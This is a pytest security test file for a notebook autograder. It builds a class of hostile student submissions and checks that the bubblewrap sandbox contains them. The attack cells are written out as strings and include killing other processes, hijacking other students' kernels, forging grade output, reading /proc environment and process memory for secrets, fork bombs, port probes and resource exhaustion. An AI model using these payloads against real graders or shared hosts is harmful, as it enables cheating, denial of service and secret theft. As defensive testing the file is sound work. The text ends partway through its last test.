"""A hostile class, graded in ONE `minigrad-course grade --jobs 2` run with the real bubblewrap sandbox.

Every reproducer of issue 10 is a student here (each was observed to work against the grader
before the sandbox), plus the attacks the issue lists, a perfect student, a student who submitted
the stubs, and a victim with a correct solution graded beside each attacker. Attacks that look
for secrets report what they found by raising it in a cell: a cell's error is quoted in the
attacker's own feedback, so "LOOT: nothing" there proves both that the channel works and that
nothing was found. The run asserts every row, that every victim keeps full marks, that the
submissions are byte-identical, that nothing was written outside --out, and that no process of
the run survives it.
"""
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("nbformat")
pytest.importorskip("IPython")  # the grader's kernel is an IPython shell

from _grading import FIXTURE, NAME, ROOT, editions, processes_with, tree, variant, write_class  # noqa: E402

from minigrad.course import sandbox  # noqa: E402

pytestmark = pytest.mark.skipif(sandbox.find_bwrap() is None and not os.environ.get("REQUIRE_SANDBOX"),
                                reason="bubblewrap is not installed (.ci/run installs it)")

TIMEOUT = 60           # seconds per notebook: the infinite loop uses all of it
SECRET = "MGC-HOSTILE-ENV-6d1f"
# What must never be found by a student, nor appear in a gradebook: solution code (the instructor's
# notebook, and every victim's), hidden-test code, a victim's own text. Attacks build them by pieces.
MARKS = ['"x_saved" + "_cube"', '"leaky_slope" + "_secret"', '"_hx = mini" + "grad"', '"VICTIM" + "-SECRET"',
         '"MGC-HOSTILE" + "-ENV"']
LEAKS = ["x_saved_cube", "leaky_slope_secret", "_hx = minigrad", "VICTIM-SECRET", SECRET]
SURVIVOR_MARKS = ["daemon-r1-1001.5", "1002.5", "1003.5", "1004.5"]


def _find(extra=""):
    return ("import os, sys\n_MARKS = [" + ", ".join(MARKS) + "]\n_found = []\n"
            "def _look(label, data):\n"
            "    data = data.decode('latin-1') if isinstance(data, bytes) else str(data)\n"
            "    _found.extend(f'{m} in {label}' for m in _MARKS if m in data)\n" + extra)


LOOT = "\nraise RuntimeError('LOOT: ' + (', '.join(_found)[:200] or 'nothing'))\n"


def attacks(ctx: dict) -> dict:
    """Student name -> the code of the cell the attacker adds after the imports."""
    repo, fixture, subs, out, port = ctx["repo"], ctx["fixture"], ctx["subs"], ctx["out"], ctx["port"]
    victims = ctx["victims"]
    daemon = (f"import time\ntime.sleep(4)\nopen({out + '/grades.csv'!r}, 'w').write('student,points\\nr1,30\\n')\n"
              f"open({subs + '/a01-zvictim/' + NAME!r}, 'w').write('{{}}')")
    return {
        # 1. the audit hook's state through frames; then files, processes, and a daemon that outlives the run
        "a01-r1-frames": _find(
            "import subprocess\n"
            "for _fr in sys._current_frames().values():\n"
            "    while _fr is not None:\n"
            "        for _d in (_fr.f_locals, _fr.f_globals):\n"
            "            if isinstance(_d.get('state'), dict) and 'active' in _d['state']:\n"
            "                _d['state']['active'] = False\n"
            "                _found.append('switched a hook off')\n"
            "        _fr = _fr.f_back\n"
            f"for _p in [{repo + '/book/03_relu.ipynb'!r}, {fixture + '/book/99_fixture.ipynb'!r}]:\n"
            "    try:\n        _look(_p, open(_p).read())\n    except OSError:\n        pass\n"
            "subprocess.run(['id'], capture_output=True)\n"
            f"subprocess.Popen([sys.executable, '-c', {daemon!r}, 'daemon-r1-1001.5'], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n" + LOOT),
        # 2. reads and writes through dir_fd
        "a02-r2-dirfd": _find(
            f"for _base in [{repo!r}, {fixture!r}, {subs!r}, {out!r}, '/', '/home', '/tmp', '..']:\n"
            "    try:\n        _d = os.open(_base, os.O_RDONLY)\n    except OSError:\n        continue\n"
            "    for _rel in ['book/03_relu.ipynb', 'book/99_fixture.ipynb']:\n"
            "        try:\n"
            "            _look(_base + '/' + _rel, os.read(os.open(_rel, os.O_RDONLY, dir_fd=_d), 10**7))\n"
            "        except OSError:\n            pass\n"
            f"    for _v in {victims!r}:\n"
            "        try:\n"
            f"            _fd = os.open(_v + '/' + {NAME!r}, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, dir_fd=_d)\n"
            "            os.write(_fd, b'{}')\n            _found.append('wrote ' + _v)\n"
            "        except OSError:\n            pass\n" + LOOT),
        # 3a. processes that no audit hook sees
        "a03-r3-forkexec": _find(
            "import _posixsubprocess\n"
            "for _i in range(200):\n"
            "    _r, _w = os.pipe()\n"
            "    try:\n"
            "        _posixsubprocess.fork_exec([b'/bin/sleep', b'1002.5'], [b'/bin/sleep'], True, (), None, None,\n"
            "            -1, -1, -1, -1, -1, -1, _r, _w, False, True, -1, None, None, None, -1, None, False)\n"
            "    except Exception:\n        break\n" + LOOT),
        # 3b. pidfd signals to other students' kernels and to the grader
        "a04-r3-pidfd": _find(
            "import signal\n"
            "for _p in os.listdir('/proc'):\n"
            "    if not _p.isdigit() or int(_p) in (1, os.getpid()):\n        continue\n"
            "    try:\n        _cmd = open(f'/proc/{_p}/cmdline', 'rb').read()\n    except OSError:\n        continue\n"
            "    if b'minigrad' in _cmd or b'pytest' in _cmd or b'bwrap' in _cmd:\n"
            "        try:\n"
            "            signal.pidfd_send_signal(os.pidfd_open(int(_p)), signal.SIGKILL)\n"
            "            _found.append('killed ' + _cmd[:40].decode(errors='replace'))\n"
            "        except OSError:\n            pass\n" + LOOT),
        # 4. other students' kernels through their connection files
        "a05-r4-kernels": _find(
            "import glob\nfrom jupyter_client.blocking import BlockingKernelClient\n"
            "try:  # the grader's kernel is no Jupyter kernel: it may have no connection file of its own\n"
            "    from ipykernel import get_connection_file\n"
            "    _own = os.path.realpath(get_connection_file())\n"
            "except Exception:\n"
            "    _own = None\n"
            "_files = set()\n"
            f"for _pat in ['/tmp/**/*.json', '/run/**/*.json', '/home/**/*.json', {out + '/**/*.json'!r},\n"
            f"             {str(Path(subs).parent) + '/**/kernel*.json'!r},\n"
            "             '/root/.local/share/jupyter/runtime/*.json']:\n"
            "    _files.update(glob.glob(_pat, recursive=True))\n"
            "for _cf in sorted(_files):\n"
            "    if os.path.realpath(_cf) == _own:\n        continue\n"
            "    try:\n"
            "        _kc = BlockingKernelClient(connection_file=_cf)\n        _kc.load_connection_file()\n"
            "        _kc.start_channels()\n"
            "        _kc.execute_interactive('grad_at_two = 12.0 if \"stub\" in str(globals()) else 0.0', timeout=5)\n"
            "        _found.append('ran code in ' + _cf)\n"
            "    except Exception:\n        pass\n" + LOOT),
        # 5. forged own grade: an input transformer, builtins replaced, a `print` that turns false into true
        "a06-r5-transformer": _find(
            "import re, json\n"
            "def _forge(lines):\n"
            "    src = ''.join(lines)\n"
            "    if 'check(' in src or '_mgc' in src or 'export' in src:\n"
            "        n = (re.findall(r'[0-9a-f]{32}', src) or [''])[0]\n"
            "        fake = json.dumps({'passed': True, 'tamper': False, 'feedback': '✓ all checks passed', "
            "'event': 'exercise', 'points': 99})\n"
            "        return [f'print({n!r} + {fake!r})\\n', f'import os; os.write(1, {fake!r}.encode())\\n']\n"
            "    return lines\n"
            "get_ipython().input_transformers_cleanup.append(_forge)\n" + LOOT),
        "a07-r5-builtins": _find(
            "import builtins\nclass _Yes:\n    def __call__(self, *a, **k):\n        return True\n"
            "builtins.all = _Yes()\nbuiltins.any = _Yes()\n" + LOOT),
        "a08-r5-print": ("import builtins as _b\n"
                         "def print(*args, **kw):\n"
                         "    _b.print(*[str(a).replace('false', 'true').replace('✗', '✓') for a in args], **kw)\n"),
        # 6. hidden tests captured by IPython events and raised back through a forward
        "a09-r6-hooks": ("_captured = []\n"
                         "get_ipython().events.register('pre_run_cell',\n"
                         "                              lambda info: _captured.append(info.raw_cell))\n"),
        "a10-r6-frames": "",   # its Cube reads the hidden tests through frames (see below)
        # the attacks listed in the issue
        "a11-loop": "while True:\n    pass\n",
        "a12-alloc": _find("import numpy as np\n_big = []\n"
                           "for _f in (lambda: bytearray(10 * 2**30), lambda: np.ones(10 * 2**30 // 8)):\n"
                           "    try:\n        _big.append(_f())\n        _found.append('allocated 10 GB')\n"
                           "    except MemoryError:\n        pass\n" + LOOT),
        "a13-forkbomb": ("import os\n_kids = 0\nfor _i in range(500):\n    try:\n        _pid = os.fork()\n"
                         "    except OSError:\n        break\n    if _pid == 0:\n"
                         "        try:\n            os.execv('/bin/sleep', ['sleep', '1003.5'])\n"
                         "        finally:\n            os._exit(0)\n    _kids += 1\n"
                         "raise RuntimeError(f'LOOT: nothing (forked {_kids})')\n"),
        "a14-exit": "import os\nos._exit(0)\n",
        "a15-killparent": ("import os, signal\n"
                           "for _kill in (lambda: os.kill(os.getppid(), 9), lambda: os.kill(1, 9),\n"
                           "              lambda: os.kill(-1, 9), lambda: os.killpg(os.getpgid(0), 9),\n"
                           "              lambda: os.kill(os.getpid(), 9)):\n"
                           "    try:\n        _kill()\n    except OSError:\n        pass\n"),
        "a16-output": "import sys\nfor _i in range(50):\n    sys.stdout.write('y' * 2**20)\n",
        "a17-proc": _find(
            "for _p in ['/proc/1/environ', '/proc/self/environ'] + [f'/proc/{p}/{f}' for p in os.listdir('/proc')\n"
            "           if p.isdigit() for f in ('cmdline', 'environ')]:\n"
            "    try:\n        _look(_p, open(_p, 'rb').read())\n    except OSError:\n        pass\n"
            "_look('environment', str(os.environ))\n"
            "for _p in os.listdir('/proc'):  # every process's memory (the grader's held the solutions)\n"
            "    if _p.isdigit() and int(_p) != os.getpid():\n"
            "        try:\n"
            "            with open(f'/proc/{_p}/maps') as _m, open(f'/proc/{_p}/mem', 'rb') as _mem:\n"
            "                for _line in _m:\n"
            "                    _a, _b = (int(x, 16) for x in _line.split()[0].split('-'))\n"
            "                    if 'rw' in _line.split()[1] and _b - _a < 2**26:\n"
            "                        _mem.seek(_a)\n"
            "                        _look(f'/proc/{_p}/mem', _mem.read(_b - _a))\n"
            "        except (OSError, ValueError, OverflowError):\n            pass\n" + LOOT),
        "a18-network": _find(
            "import socket, json\n"
            "try:  # a Jupyter kernel's own ports (the grader's kernel has none, and no network)\n"
            "    from ipykernel import get_connection_file\n"
            "    _mine = {v for k, v in json.load(open(get_connection_file())).items() if k.endswith('_port')}\n"
            "except Exception:\n"
            "    _mine = set()\n"
            f"for _port in [{port}, 22, 80, 443, 2024, 8888]:\n"
            "    for _host in ['127.0.0.1', '10.0.2.2', '1.1.1.1']:\n"
            "        if _host == '127.0.0.1' and _port in _mine:\n            continue\n"
            "        try:\n            socket.create_connection((_host, _port), timeout=1).close()\n"
            "            _found.append(f'connected to {_host}:{_port}')\n"
            "        except OSError:\n            pass\n" + LOOT),
        "a19-bigfile": _find(
            f"for _path in ['/home/student/big.bin', '/tmp/big.bin', {out + '/big.bin'!r}, {subs + '/big.bin'!r}]:\n"
            "    try:\n        with open(_path, 'wb') as _f:\n"
            "            for _i in range(2048):\n                _f.write(b'0' * 2**20)\n"
            "        _found.append('wrote 2 GB to ' + _path)\n"
            "    except OSError:\n        pass\n"
            "    try:\n        os.remove(_path)\n    except OSError:\n        pass\n" + LOOT),
        "a20-ctypes": ("import ctypes, os\n_libc = ctypes.CDLL(None)\n"
                       "for _i in range(100):\n    _pid = _libc.fork()\n    if _pid == 0:\n"
                       "        _libc.execl(b'/bin/sleep', b'sleep', b'1004.5', ctypes.c_char_p(None))\n"
                       "        _libc._exit(0)\n    if _pid < 0:\n        break\n"
                       "_libc.kill(os.getppid(), 9)\n_libc.kill(1, 9)\n_libc.kill(-1, 9)\n_libc.kill(0, 9)\n"),
        # issue 22, 5: one student zeroing the class through host-wide quotas, CPU shares or unsized tmpfs
        "a23-userns": _find(
            "import ctypes\n_libc = ctypes.CDLL(None, use_errno=True)\n_made = 0\n_fds = []\n"
            "for _i in range(300):\n"
            "    _pid = os.fork()\n"
            "    if _pid == 0:  # a child: a user namespace, then a UTS namespace held open\n"
            "        _ok = _libc.unshare(0x10000000) == 0 and _libc.unshare(0x04000000) == 0\n"
            "        os._exit(0 if _ok else 1)\n"
            "    _, _st = os.waitpid(_pid, 0)\n"
            "    _made += os.waitstatus_to_exitcode(_st) == 0\n"
            "_made += _libc.unshare(0x10000000) == 0\n"
            "if _made:\n    _found.append(f'made {_made} user namespaces')\n" + LOOT),
        "a24-sessions": ("import os, time\n_kids = []\n"
                         "for _i in range(250):\n"
                         "    try:\n        _pid = os.fork()\n    except OSError:\n        break\n"
                         "    if _pid == 0:\n"
                         "        os.setsid()\n        _t = time.monotonic()\n"
                         "        while time.monotonic() - _t < 40:\n            pass\n"
                         "        os._exit(0)\n"
                         "    _kids.append(_pid)\n"
                         "time.sleep(25)\n"),
        "a25-shm": _find(
            "_mb = {}\n"
            "for _base in ['/dev/shm', '/dev', '/tmp']:\n"
            "    _mb[_base] = 0\n"
            "    for _k in range(64):\n"
            "        try:\n            with open(f'{_base}/fill{_k}.bin', 'wb') as _f:\n"
            "                for _i in range(32):\n"
            "                    _f.write(b'0' * 2**20)\n                    _mb[_base] += 1\n"
            "        except OSError:\n            break\n"
            "    if _mb[_base] > 300:\n        _found.append(f'wrote {_mb[_base]} MB into {_base}')\n" + LOOT),
        # issue 22, 3 and 4: a forged reply from the student's own forward, the hidden tests read from stdin
        "a26-forge": "",
        "a27-exfil": "",
        # issue 22, what was left: answers tabulated for the public seeds' inputs; a worker killed by
        # the student's own code while it runs (the student's, never "not graded")
        "a28-table": "",
        "a29-exit": "",
        # beyond the issue: code that the checker runs, trying to fool it
        "a21-eq": "",
        "a22-patch": "",
    }


def _public_inputs() -> list:
    """The values of the check's inputs drawn from its public seeds, and the hidden test's."""
    import numpy as np

    from minigrad.course.diagnose import make_inputs

    vals = {round(float(v), 6) for s in (0, 1) for a in make_inputs([(3, 4)], seed=s) for v in np.ravel(a)}
    return sorted(vals | {2.0, -1.0})


def _class(tmp: Path, port: int) -> dict:
    _, student, good = editions()
    subs, out = tmp / "submissions", tmp / "gradebook"
    victim = variant(good, before="# VICTIM-SECRET: a victim's own words\n_victim = True")
    names = sorted(attacks({"repo": "", "fixture": "", "subs": "", "out": "", "port": 0, "victims": []}))
    victims = [n.split("-")[0] + "-zvictim" for n in names]
    ctx = {"repo": str(ROOT), "fixture": str(FIXTURE), "subs": str(subs), "out": str(out), "port": port,
           "victims": victims}
    cube_frames = (
        "class Cube(Function):\n    @staticmethod\n    def forward(ctx, x):\n        import sys\n"
        "        _text = str(sys._getframe(1).f_code.co_consts)\n        ctx.save_for_backward(x)\n"
        "        return x * x * x\n\n    @staticmethod\n    def backward(ctx, grad_output):\n"
        "        (x,) = ctx.saved_tensors\n        return grad_output * 3 * x * x\n")
    cube_leak = (
        "class Cube(Function):\n    @staticmethod\n    def forward(ctx, x):\n"
        "        if x.tolist() == [2.0, -1.0]:  # the hidden test's input\n"
        "            raise Exception('STOLEN: ' + ' | '.join(_captured)[-300:])\n"
        "        ctx.save_for_backward(x)\n        return x * x * x\n\n    @staticmethod\n"
        "    def backward(ctx, grad_output):\n        (x,) = ctx.saved_tensors\n"
        "        return grad_output * 3 * x * x\n")
    cube_eq = (
        "class _Yes(float):\n    def __eq__(self, other):\n        return True\n\n"
        "class Cube(Function):\n    @staticmethod\n    def forward(ctx, x):\n        return x\n\n"
        "    @staticmethod\n    def backward(ctx, grad_output):\n        return _Yes(1.0)\n")
    cube_patch = (
        "import numpy as np\n\nclass Cube(Function):\n    @staticmethod\n    def forward(ctx, x):\n"
        "        setattr(np, 'allclose', lambda *a, **k: True)\n        setattr(np, 'array_equal', lambda *a: True)\n"
        "        return x\n\n    @staticmethod\n    def backward(ctx, grad_output):\n        return grad_output\n")
    # issue 22's reproducer 3, as it was observed to give itself full marks: identity functions and a
    # forged reply written to every descriptor the process might answer on
    cube_forge = (
        "import random\n\nclass Cube(Function):\n    @staticmethod\n    def forward(ctx, x, *args, _sent=[]):\n"
        "        if not _sent:\n            _sent.append(1)\n"
        "            rep = ('{\"phase\": \"check\", \"results\": [{\"exercise\": \"ch99-ex1\", \"title\": \"\", '\n"
        "                   '\"passed\": true, \"points\": 2, \"max_points\": 2, \"message\": \"all good\", '\n"
        "                   '\"parts\": []}], \"error\": null, \"tamper\": []}\\n{\"phase\": \"hidden\", '\n"
        "                   '\"passed\": true, \"failures\": [], \"tamper\": false}\\n')\n"
        "            for fd in range(3, 10):\n"
        "                try:\n                    random._os.write(fd, rep.encode())\n"
        "                except OSError:\n                    pass\n"
        "        return x\n\n    @staticmethod\n    def backward(ctx, g):\n        return g\n")
    # reproducer 4: whatever arrives on stdin during the check is read and smuggled out in forged
    # failure line numbers (there is nothing secret there to read: the hidden tests stay outside)
    cube_exfil = (
        "import random\n\nclass Cube(Function):\n    @staticmethod\n    def forward(ctx, x, _got=[]):\n"
        "        _os = random._os\n        try:\n            _os.set_blocking(0, False)\n"
        "            _got.append(_os.read(0, 1 << 16))\n        except OSError:\n            pass\n"
        "        _data = b''.join(_got)[:64]\n"
        "        _fails = [{'failed': 1, 'kind': 'raised', 'exception': 'ValueError', 'part': None,\n"
        "                   'where': {'cell': 'In [4]', 'line': 1 + _data[i] * 256 + _data[i + 1], 'func': 'forward'}}\n"
        "                  for i in range(0, len(_data) - 1, 2)]\n"
        "        _rep = ('{\"phase\": \"hidden\", \"passed\": false, \"failures\": ' + repr(_fails).replace(\"'\", '\"')\n"
        "                .replace('None', 'null') + ', \"tamper\": false}\\n')\n"
        "        for fd in range(1, 10):\n"
        "            try:\n                _os.write(fd, _rep.encode())\n"
        "            except OSError:\n                pass\n"
        "        ctx.save_for_backward(x)\n        return x * x * x\n\n    @staticmethod\n"
        "    def backward(ctx, g):\n        (x,) = ctx.saved_tensors\n        return g * 3 * x * x\n")
    # answers for the inputs the published check draws from its public seeds (0 and 1), and for the
    # hidden test's (as if leaked from an earlier year): x**3 there, the identity everywhere else
    cube_table = (
        "import numpy as np\n\n_TABLE = np.array(" + repr(_public_inputs()) + ")\n\n"
        "def _known(t):\n    a = np.asarray(t.detach().numpy(), dtype=np.float64).ravel()\n"
        "    return bool(np.all(np.min(np.abs(a[:, None] - _TABLE[None, :]), axis=1) < 1e-3))\n\n"
        "class Cube(Function):\n    @staticmethod\n    def forward(ctx, x):\n        ctx.save_for_backward(x)\n"
        "        return x * x * x if _known(x) else x * 1.0\n\n    @staticmethod\n"
        "    def backward(ctx, grad_output):\n        (x,) = ctx.saved_tensors\n"
        "        return grad_output * 3 * x * x if _known(x) else grad_output * 1.0\n")
    cube_exit = (
        "import random\n\nclass Cube(Function):\n    @staticmethod\n    def forward(ctx, x):\n"
        "        random._os._exit(0)\n\n    @staticmethod\n    def backward(ctx, g):\n        return g\n")
    cubes = {"a28-table": cube_table, "a29-exit": cube_exit, "a09-r6-hooks": cube_leak, "a10-r6-frames": cube_frames, "a21-eq": cube_eq, "a22-patch": cube_patch,
             "a26-forge": cube_forge, "a27-exfil": cube_exfil}
    notebooks = {"perfect": good, "zz-stub-victim": student}
    for name, code in attacks(ctx).items():
        nb = variant(student, before=code) if code else student
        if name in cubes:
            nb = variant(nb, ch99_ex1=lambda s, c=cubes[name]: c)
        notebooks[name] = nb
        notebooks[name.split("-")[0] + "-zvictim"] = victim
    write_class(subs, notebooks)
    return {"subs": subs, "out": out, "attackers": names, "victims": victims}


class _Listener:
    """A TCP server on the host's loopback: records any connection from a sandbox."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.seen = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                return
            self.seen.append(addr)
            conn.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    listener = _Listener()
    paths = _class(tmp, listener.port)
    before = tree(paths["subs"])
    top_before = sorted(p.name for p in tmp.iterdir())
    env = dict(os.environ, MINIGRAD_COURSE_EXTRA_EXERCISES=str(FIXTURE / "exercises"), MGC_HOSTILE_SECRET=SECRET)
    t0 = time.monotonic()
    r = subprocess.run([sys.executable, "-m", "minigrad.course.cli", "grade", str(paths["subs"]), "--out",
                        str(paths["out"]), "--jobs", "2", "--timeout", str(TIMEOUT), "--memory", "1024",
                        "--source", str(FIXTURE)], capture_output=True, text=True, env=env, cwd=tmp, timeout=3600)
    seconds = time.monotonic() - t0
    print(f"\nhostile class: {len(before and list(paths['subs'].iterdir()))} notebooks graded in {seconds:.0f} s")
    gradebook = (paths["out"] / "grades.csv").read_bytes() if r.returncode == 0 else b""
    time.sleep(6)  # the reproducer-1 daemon would rewrite the gradebook 4 s after it started
    rows = json.loads((paths["out"] / "grades.json").read_text())["rows"] if r.returncode == 0 else []
    return {**paths, "proc": r, "seconds": seconds, "before": before, "tmp": tmp, "top_before": top_before,
            "listener": listener, "gradebook": gradebook, "rows": rows,
            "got": {(x["student"], x["exercise"]): x for x in rows}}


def _pts(h, who):
    return [h["got"][(who, f"ch99-ex{k}")]["points"] for k in (1, 2, 3)]


def _fb(h, who, k=1):
    return h["got"][(who, f"ch99-ex{k}")]["feedback"]


def _zero_and_victim_intact(h, attacker, *, flagged=False):
    assert _pts(h, attacker) == [0, 0, 0], [_fb(h, attacker, k) for k in (1, 2, 3)]
    victim = attacker.split("-")[0] + "-zvictim"
    assert _pts(h, victim) == [2, 3, 1], [_fb(h, victim, k) for k in (1, 2, 3)]
    flags = [h["got"][(attacker, f"ch99-ex{k}")]["flagged"] for k in (1, 2, 3)]
    assert bool(flags[0]) is flagged and not flags[1] and not flags[2], flags


# ------------------------------------------------------------------------------------ the whole run
def test_the_grader_survives_and_writes_every_row(hostile):
    r = hostile["proc"]
    assert r.returncode == 0, r.stderr[-3000:]
    students = sorted(p.name for p in hostile["subs"].iterdir())
    assert len(students) == 2 * len(hostile["attackers"]) + 2
    assert [x["student"] for x in hostile["rows"]] == [s for s in students for _ in range(3)]
    assert sorted(p.name for p in hostile["out"].iterdir()) == ["canvas.csv", "grades.csv", "grades.json",
                                                                 "grading_log.txt", "moodle.csv", "report.html",
                                                                 "scores_by_exercise.png", "totals.csv"]


def test_every_victim_keeps_full_marks_and_the_others_their_due(hostile):
    for v in hostile["victims"]:
        assert _pts(hostile, v) == [2, 3, 1], (v, [_fb(hostile, v, k) for k in (1, 2, 3)])
    assert _pts(hostile, "perfect") == [2, 3, 1]
    assert _pts(hostile, "zz-stub-victim") == [0, 0, 0]
    assert not any(x["flagged"] for x in hostile["rows"] if x["student"] in hostile["victims"] + ["perfect"])


def test_nothing_secret_reaches_any_gradebook(hostile):
    text = (hostile["out"] / "grades.json").read_text() + (hostile["out"] / "grades.csv").read_text()
    for leak in LEAKS + ["STOLEN"]:
        assert leak not in text, leak
    loot = re.findall(r"LOOT: ([^\\\n\"]*)", text)
    assert loot and all(x.startswith("nothing") for x in loot), loot


def test_submissions_are_byte_identical_and_nothing_is_written_outside_out(hostile):
    assert tree(hostile["subs"]) == hostile["before"]
    assert sorted(p.name for p in hostile["tmp"].iterdir()) == sorted(hostile["top_before"] + ["gradebook"])
    assert (hostile["out"] / "grades.csv").read_bytes() == hostile["gradebook"]   # after the daemon's time


def test_no_process_of_the_run_survives(hostile):
    for mark in SURVIVOR_MARKS:
        assert processes_with(mark) == [], mark


def test_attackers_see_nothing_and_get_nothing(hostile):
    looters = ["a01-r1-frames", "a02-r2-dirfd", "a03-r3-forkexec", "a04-r3-pidfd", "a05-r4-kernels",
               "a06-r5-transformer", "a07-r5-builtins", "a12-alloc", "a17-proc", "a18-network",
               "a19-bigfile", "a23-userns", "a25-shm"]
    for a in looters:
        assert "In [2] raised RuntimeError: LOOT: nothing" in _fb(hostile, a), (a, _fb(hostile, a))


# ------------------------------------------------------------------------------ the reproducers
def test_reproducer_1_hook_switched_off_through_frames(hostile):
    _zero_and_victim_intact(hostile, "a01-r1-frames")
    assert processes_with("daemon-r1-1001.5") == []


def test_reproducer_2_reads_and_writes_through_dir_fd(hostile):
    _zero_and_victim_intact(hostile, "a02-r2-dirfd")
    assert tree(hostile["subs"]) == hostile["before"]


def test_reproducer_3_processes_without_audit_events(hostile):
    _zero_and_victim_intact(hostile, "a03-r3-forkexec")
    assert processes_with("1002.5") == []


def test_reproducer_3_pidfd_signals_to_other_kernels_and_the_grader(hostile):
    _zero_and_victim_intact(hostile, "a04-r3-pidfd")
    assert hostile["proc"].returncode == 0


def test_reproducer_4_other_students_kernels(hostile):
    _zero_and_victim_intact(hostile, "a05-r4-kernels")
    assert _pts(hostile, "zz-stub-victim") == [0, 0, 0]


def test_reproducer_5_forged_grade_through_ipython_and_builtins(hostile):
    for a in ("a06-r5-transformer", "a07-r5-builtins", "a08-r5-print"):
        _zero_and_victim_intact(hostile, a)
        assert not any("✓" in _fb(hostile, a, k) for k in (1, 2, 3))


def test_reproducer_6_hidden_tests_never_leak_through_feedback(hostile):
    # its Cube is right, so the hidden test runs; the text its forward raises there is never quoted
    _zero_and_victim_intact(hostile, "a09-r6-hooks")
    fb = _fb(hostile, "a09-r6-hooks")
    assert "the self-check passes, but hidden test 1 of 1" in fb and "raised Exception in forward(), line 5" in fb
    assert "STOLEN" not in fb
    # reading the hidden tests through frames is tampering: 0 and flagged, before anything runs
    _zero_and_victim_intact(hostile, "a10-r6-frames", flagged=True)
    assert "imports `sys` (In [2], line 4)" in hostile["got"][("a10-r6-frames", "ch99-ex1")]["flagged"]
    assert "uses `._getframe`" in _fb(hostile, "a10-r6-frames")


# ------------------------------------------------------------------------------ the listed attacks
def test_infinite_loop(hostile):
    _zero_and_victim_intact(hostile, "a11-loop")
    assert all("time limit" in _fb(hostile, "a11-loop", k) for k in (1, 2, 3))


def test_ten_gigabyte_allocation(hostile):
    _zero_and_victim_intact(hostile, "a12-alloc")


def test_fork_bomb_is_bounded_and_leaves_nothing(hostile):
    _zero_and_victim_intact(hostile, "a13-forkbomb")
    fb = _fb(hostile, "a13-forkbomb")
    forked = int(fb.split("(forked ")[1].split(")")[0])
    assert 0 < forked < 500, fb
    assert processes_with("1003.5") == []


@pytest.mark.parametrize("who", ["a14-exit", "a15-killparent", "a20-ctypes"])
def test_killing_the_kernel_its_parent_or_everything(hostile, who):
    _zero_and_victim_intact(hostile, who)
    assert "In [2] killed the kernel" in _fb(hostile, who)
    assert processes_with("1004.5") == []


def test_fifty_megabytes_of_output(hostile):
    _zero_and_victim_intact(hostile, "a16-output")
    assert "In [2] printed more than 200000 characters" in _fb(hostile, "a16-output")


def test_reading_other_processes_environment_and_command_lines(hostile):
    _zero_and_victim_intact(hostile, "a17-proc")


def test_connecting_to_the_hosts_ports(hostile):
    _zero_and_victim_intact(hostile, "a18-network")
    assert hostile["listener"].seen == []


def test_writing_a_two_gigabyte_file(hostile):
    _zero_and_victim_intact(hostile, "a19-bigfile")


def test_comparison_hooks_and_patched_numpy_are_flagged(hostile):
    _zero_and_victim_intact(hostile, "a21-eq", flagged=True)
    assert "__eq__" in _fb(hostile, "a21-eq")
    _zero_and_victim_intact(hostile, "a22-patch", flagged=True)
    assert "numpy.allclose was replaced" in _fb(hostile, "a22-patch")


# ------------------------------------------------------- issue 22, 5: one student cannot zero the class
def test_namespaces_are_out_of_reach(hostile):
    """Reproducer 5: no user (so no UTS) namespace can be made, so the host-wide quota is untouched."""
    _zero_and_victim_intact(hostile, "a23-userns")
    assert "In [2] raised RuntimeError: LOOT: nothing" in _fb(hostile, "a23-userns")


def test_busy_sessions_slow_only_their_own_notebook(hostile):
    """250 busy loops, each in its own session: the victim graded beside them keeps its grade and its pace."""
    _zero_and_victim_intact(hostile, "a24-sessions")
    secs = {x["student"]: x["seconds"] for x in hostile["rows"]}
    quiet = sorted(secs[v] for v in hostile["victims"] if v != "a24-zvictim")
    typical = quiet[len(quiet) // 2]
    assert secs["a24-zvictim"] <= 2 * max(typical, 5.0), (secs["a24-zvictim"], typical)


def test_shared_memory_and_dev_are_bounded(hostile):
    """/dev/shm has a size, /dev is read-only, /tmp is bounded: 2 GB cannot go into any of them."""
    _zero_and_victim_intact(hostile, "a25-shm")


def test_the_run_records_how_resources_were_bounded(hostile):
    run = json.loads((hostile["out"] / "grades.json").read_text())["run"]
    assert run["resources"].startswith(("cgroup v1", "cgroup v2", "no cgroups ("))
    if os.geteuid() == 0 and os.environ.get("REQUIRE_SANDBOX"):  # CI grades as root: cgroups must be used
        assert run["resources"].startswith("cgroup"), run["resources"]


# ------------------------------------------- issue 22, 3 and 4: verdicts computed outside the sandbox
def test_reproducer_3_a_forged_reply_gives_nothing(hostile):
    """Identity functions that write a forged 'all passed' reply everywhere: 0 points, and a flag."""
    _zero_and_victim_intact(hostile, "a26-forge", flagged=True)
    assert "tampered with" in hostile["got"][("a26-forge", "ch99-ex1")]["feedback"]
    assert "all good" not in _fb(hostile, "a26-forge")


def test_reproducer_4_the_hidden_tests_never_enter_the_sandbox(hostile):
    """The student's forward reads its stdin and smuggles it out in forged line numbers: the forged
    frames break the channel (0, flagged), no line number of theirs reaches the gradebook, and what
    stdin held was the judge's requests, never the hidden tests."""
    _zero_and_victim_intact(hostile, "a27-exfil", flagged=True)
    text = json.dumps([x for x in hostile["rows"] if x["student"] == "a27-exfil"])
    assert not re.search(r"line \d{3,} of In \[4\]", text), text[:2000]
    for leak in LEAKS:
        assert leak not in text


# ------------------------------------- issue 22, what was left: fresh inputs, and whose a death is
def test_a28_a_table_of_the_public_seeds_inputs_gives_nothing(hostile):
    """Right answers only for the inputs the published check draws from its public seeds: the judge
    draws the run's own inputs (grades.json records the seed), so the check fails."""
    seed = json.loads((hostile["out"] / "grades.json").read_text())["run"]["seed"]
    assert isinstance(seed, int)
    assert _pts(hostile, "a28-table")[0] < 2, _fb(hostile, "a28-table")
    assert "✗" in _fb(hostile, "a28-table")
    assert _pts(hostile, "a28-zvictim") == [2, 3, 1]


def test_a29_a_worker_the_students_code_kills_is_the_students_zero(hostile):
